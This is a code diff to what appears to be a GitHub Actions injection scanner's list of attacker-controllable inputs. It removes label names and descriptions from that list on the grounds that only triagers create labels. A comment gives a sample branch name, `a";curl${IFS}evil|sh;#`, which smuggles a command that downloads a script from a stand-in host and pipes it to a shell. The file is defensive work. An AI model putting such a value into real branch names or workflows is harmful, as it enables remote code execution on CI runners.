@@ -3,7 +3,9 @@
  * documentation: a value is listed when someone without write access can choose it (by opening a
  * pull request, an issue, a comment, a discussion, or by naming a branch or writing a commit message
  * in a fork). Everything else — SHAs, numbers, ids, booleans, logins and repository names (whose
- * alphabet cannot carry shell or script syntax), values set by maintainers — is not a source.
+ * alphabet cannot carry shell or script syntax), values set by maintainers — is not a source. Labels
+ * are such values: only people with the triage role or above create a repository's labels and put
+ * them on issues and pull requests (an issue form applies only labels that already exist).
  *
  * - `arbitrary`: free text, or a git name that can carry shell syntax without spaces
  *   (`a";curl${IFS}evil|sh;#` is a valid branch name).
@@ -21,7 +23,6 @@ export interface Classification {
 }
 
 const COMMIT = ['message', 'author.name', 'author.email', 'committer.name', 'committer.email'];
-const LABEL = ['name', 'description'];
 
 const ARBITRARY: string[] = [
   'github.head_ref',
@@ -33,18 +34,14 @@ const ARBITRARY: string[] = [
   'github.event.pull_request.head.repo.default_branch',
   'github.event.pull_request.auto_merge.commit_title',
   'github.event.pull_request.auto_merge.commit_message',
-  ...LABEL.map((f) => `github.event.pull_request.labels.*.${f}`),
   'github.event.issue.title',
   'github.event.issue.body',
-  ...LABEL.map((f) => `github.event.issue.labels.*.${f}`),
-  ...LABEL.map((f) => `github.event.label.${f}`),
   'github.event.comment.body',
   'github.event.comment.path',
   'github.event.comment.diff_hunk',
   'github.event.review.body',
   'github.event.discussion.title',
   'github.event.discussion.body',
-  ...LABEL.map((f) => `github.event.discussion.labels.*.${f}`),
   'github.event.answer.body',
   'github.event.changes.**',
   ...COMMIT.map((f) => `github.event.head_commit.${f}`),
